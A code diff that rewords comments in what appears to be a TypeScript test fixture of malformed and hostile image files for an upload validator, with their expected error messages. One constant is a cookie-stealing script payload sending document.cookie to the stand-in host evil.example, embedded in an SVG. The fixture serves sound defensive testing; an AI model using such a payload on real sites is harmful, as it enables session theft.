@@ -1,11 +1,11 @@
-/** Files that must not come in as pictures. */
+/** Files that must be refused as pictures. */
 import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { noisyPicture, plainPicture } from './pictures.ts';
 
 const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
 
-/** A part of a PNG, with its checksum or a wrong one. */
+/** A chunk of a PNG, with a right or wrong checksum. */
 export function chunk(name: string, data: Buffer, { wrong = false } = {}): Buffer {
   const content = Buffer.concat([Buffer.from(name, 'latin1'), data]);
   const framed = Buffer.alloc(content.length + 8);
@@ -15,7 +15,7 @@ export function chunk(name: string, data: Buffer, { wrong = false } = {}): Buffe
   return framed;
 }
 
-/** A grey PNG of a bit a pixel that says it has this size; its pixels are `rows` bytes. */
+/** A PNG with one bit per pixel whose header claims this size; its pixels are `rows` bytes. */
 export function png(
   width: number,
   height: number,
@@ -35,7 +35,7 @@ export function png(
   ]);
 }
 
-/** A JPEG that says in its frame's header that it has this size. */
+/** A JPEG whose frame header claims this size. */
 async function jpegOfSize(width: number, height: number): Promise<Buffer> {
   const bytes = await sharp(await plainPicture().png().toBuffer())
     .jpeg()
@@ -46,7 +46,7 @@ async function jpegOfSize(width: number, height: number): Promise<Buffer> {
   return bytes;
 }
 
-/** A RIFF file of parts, as WebP is. */
+/** A RIFF file of chunks, the format of WebP. */
 function webp(...parts: [name: string, data: Buffer][]): Buffer {
   const framed = parts.map(([name, data]) => {
     const length = Buffer.alloc(4);
@@ -68,11 +68,11 @@ function movingWebp(): Promise<Buffer> {
   );
 }
 
-/** What must not run anywhere. */
+/** A script that must never run. */
 export const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
-/** A picture that could run it. */
+/** A picture that could run the script. */
 export const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`;
-/** A picture of one pixel, and one of two that move. */
+/** A picture of one pixel, and an animated one of two frames. */
 const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
 
 const notOne = 'Send a JPEG, PNG or WebP picture.';
@@ -81,7 +81,7 @@ const tooMany = 'The picture has more than 25 megapixels. Send a smaller one.';
 const moving = 'Animated pictures are not accepted. Send a still picture.';
 const empty = 'The file is empty.';
 
-/** Files that must not come in, each with what is said of it. */
+/** Files that must be refused, each with its error message. */
 export const hostilePictures: [what: string, reason: string, make: () => Buffer | Promise<Buffer>][] = [
   ['nothing at all', empty, () => Buffer.alloc(0)],
   ['one byte', notOne, () => Buffer.from([0xff])],
